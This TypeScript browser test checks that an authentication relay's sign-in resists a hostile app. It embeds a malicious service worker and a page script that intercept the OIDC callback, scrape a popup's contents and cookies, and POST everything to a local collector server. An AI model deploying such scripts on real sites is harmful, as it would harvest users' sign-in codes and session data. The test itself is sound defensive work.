// Attack 24 in a real Chromium: the app behind an edge is hostile. Its service worker intercepts `/.sallyport/…` on its
// own host, and its page opens the sign-in in a popup and reads as much as it can.

import assert from 'node:assert/strict'
import { once } from 'node:events'
import { createServer } from 'node:http'
import type { Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import { text } from 'node:stream/consumers'
import { after, before, describe, it } from 'node:test'
import type { TestContext } from 'node:test'

import type { BrowserContext, Page } from 'playwright-core'

import { ChromiumBrowser, NO_CHROMIUM } from '../support/browser/chromium-browser.ts'
import { ADA, Processes } from '../support/processes.ts'
import { within } from '../support/until.ts'

const HOST = 'app.localhost'

/** The data that the hostile app has got out of the browser. */
interface Stolen {
  what: string
  url: string
}

describe('attack 24: a hostile app and the sign-in on its own host', { timeout: 120_000 }, () => {
  let processes: Processes
  let app: Server
  let collector: Server
  let collectorUrl: string
  let chromium: ChromiumBrowser | undefined
  let stolen: Stolen[] = []
  /** Whether the service worker lets the end of the sign-in through to the relay. */
  let verdict: 'pass' | 'withhold' = 'pass'

  before(async () => {
    chromium = await ChromiumBrowser.start()
    if (!chromium) return
    collector = createServer((request, response) => {
      response.setHeader('access-control-allow-origin', '*')
      void text(request).then((body) => {
        if (body) stolen.push(JSON.parse(body) as Stolen) // written by the scripts below
        collector.emit('stolen')
        response.end(verdict)
      })
    })
    collector.listen(0, '127.0.0.1')
    await once(collector, 'listening')
    collectorUrl = `http://127.0.0.1:${(collector.address() as AddressInfo).port}` // it listens on a port
    app = createServer((request, response) => {
      const isWorker = request.url === '/worker.js'
      response.setHeader('content-type', isWorker ? 'text/javascript' : 'text/html')
      response.end(isWorker ? workerScript(collectorUrl) : PAGE)
    })
    app.listen(0, '127.0.0.1')
    await once(app, 'listening')
    processes = await Processes.create()
    await processes.startProvider()
    await processes.startRelay({ edges: [{ id: 'edg_app', hosts: [HOST], policy: processes.signIn() }] })
    const authtoken = await processes.createAuthtoken()
    const upstream = `http://127.0.0.1:${(app.address() as AddressInfo).port}` // it listens on a port
    await processes.startAgent({ authtoken, labels: ['edge=edg_app'], upstream, name: 'agent' })
  })
  after(async () => {
    await chromium?.close()
    if (!chromium) return
    await processes.close()
    for (const server of [app, collector]) server.close().closeAllConnections()
  })

  for (const wish of ['pass', 'withhold'] as const) {
    it(`its service worker and opener learn nothing of use elsewhere (${wish})`, async (test) => {
      const victim = await prepare(test)
      if (!victim) return
      const { context, page, codes } = victim
      verdict = wish
      stolen = []

      // The popup needs no password: the provider knows this browser.
      const finished = untilStolen('callback')
      const opened = context.waitForEvent('page')
      await page.evaluate(`signInWithPopup('${collectorUrl}')`)
      const [captured, popup] = await Promise.all([finished, opened])
      await popup.getByText(wish === 'pass' ? 'the hostile app' : 'withheld').waitFor()
      await untilStolen(wish === 'pass' ? 'opener saw /landing' : 'opener saw /.sallyport/oidc/callback')

      assert.equal(codes.length, 1, 'the provider has sent one code, to the relay')
      const all = JSON.stringify(stolen)
      assert.ok(stolen.length > 2, all)
      assert.equal(all.includes(codes[0]!), false, 'the code is seen by nobody')
      assert.doesNotMatch(all, /[?&](?:code|state)=/)
      const outsideBoxes = all.replaceAll(/(?<=[?&]box=)[\w-]+/g, '') // sealed, and may have these letters by chance
      assert.doesNotMatch(outsideBoxes, /eyJ/, 'no token of any kind')
      assert.equal(
        (await context.cookies(page.url())).some(({ name }) => name.endsWith('.session')),
        wish === 'pass',
      )

      await assertWorthless(captured.url, 'in a fresh browser')
      // Not even while another sign-in is under way, with its own state cookie.
      const other = await chromium!.privateWindow()
      const otherPage = await other.newPage()
      await otherPage.goto(processes.origin(HOST))
      const answer = await otherPage.goto(captured.url)
      assert.equal(answer?.status(), 400)
      assert.equal(await hasSession(other), false)
      await Promise.all([other.close(), context.close()])
    })
  }

  /** A window with the app's service worker, after the end of its session here. */
  async function prepare(
    test: TestContext,
  ): Promise<{ context: BrowserContext; page: Page; codes: string[] } | undefined> {
    if (!chromium) {
      test.skip(NO_CHROMIUM)
      return undefined
    }
    verdict = 'pass'
    const context = await chromium.privateWindow()
    const page = await context.newPage()
    await page.goto(processes.origin(HOST))
    await page.getByLabel('Username').fill(ADA.username)
    await page.getByLabel('Password').fill(ADA.password)
    await page.getByRole('button', { name: 'Sign in' }).click()
    await page.getByText('the hostile app').waitFor()
    await page.evaluate('installed')
    await context.clearCookies({ name: /\.session$/ })
    const codes: string[] = []
    context.on('request', (request) => {
      const url = new URL(request.url())
      const code = url.searchParams.get('code')
      if (code === null) return
      assert.equal(url.origin, processes.publicUrl, 'codes go to the relay')
      codes.push(code)
    })
    return { context, page, codes }
  }

  async function assertWorthless(url: string, where: string): Promise<void> {
    const fresh = await chromium!.privateWindow()
    const page = await fresh.newPage()
    const answer = await page.goto(url)
    assert.equal(answer?.status(), 400, where)
    assert.match(answer?.headers()['sallyport-error-code'] ?? '', /^ERR_SIGN_IN_/)
    assert.equal(await hasSession(fresh), false, where)
    await fresh.close()
  }

  async function hasSession(context: BrowserContext): Promise<boolean> {
    return (await context.cookies()).some(({ name }) => name.endsWith('.session'))
  }

  async function untilStolen(what: string): Promise<Stolen> {
    for (;;) {
      const found = stolen.find((one) => one.what === what)
      if (found) return found
      await within(`the page tells of ${what}`, once(collector, 'stolen'))
    }
  }
})

const PAGE = `<!doctype html><title>app</title><h1>the hostile app</h1><script>
const installed = navigator.serviceWorker.register('/worker.js').then(() => navigator.serviceWorker.ready)
  .then(() => navigator.serviceWorker.controller || new Promise((done) => navigator.serviceWorker.addEventListener('controllerchange', done)))
  .then(() => true)
function signInWithPopup(collector) {
  const popup = window.open('/.sallyport/login?return_to=/landing')
  const told = new Set()
  setInterval(() => {
    try {
      const seen = [popup.location.href, popup.document.referrer, popup.document.documentElement.outerHTML,
        popup.document.cookie, popup.history.length, JSON.stringify(popup.performance.getEntries())].join(' ')
      const key = popup.location.pathname
      if (key === 'blank' || popup.document.readyState !== 'complete' || told.has(key)) return
      told.add(key)
      void fetch(collector, { method: 'POST', body: JSON.stringify({ what: 'opener saw ' + key, url: seen }) })
    } catch {} // at the provider, or at the relay
  }, 1)
}
</script>`

/** Tells the collector of every request, and asks it what to do with the end of a sign-in. */
function workerScript(collector: string): string {
  return `
self.addEventListener('install', () => self.skipWaiting())
self.addEventListener('activate', (event) => event.waitUntil(self.clients.claim()))
self.addEventListener('fetch', (event) => {
  const { request } = event
  const url = new URL(request.url)
  if (url.origin !== self.location.origin) return
  const what = url.pathname === '/.sallyport/oidc/callback' ? 'callback' : 'request'
  const told = [request.url, request.referrer, ...request.headers.values()].join(' ')
  event.respondWith((async () => {
    const answer = await fetch('${collector}', { method: 'POST', body: JSON.stringify({ what, url: what === 'callback' ? request.url : told }) })
    if (what === 'callback' && (await answer.text()) === 'withhold') {
      return new Response('<h1>withheld</h1>', { headers: { 'content-type': 'text/html' } })
    }
    const response = await fetch(request)
    await fetch('${collector}', { method: 'POST', body: JSON.stringify({ what: 'response', url: [response.type, response.url, ...response.headers.values()].join(' ') }) })
    return response
  })())
})
`
}
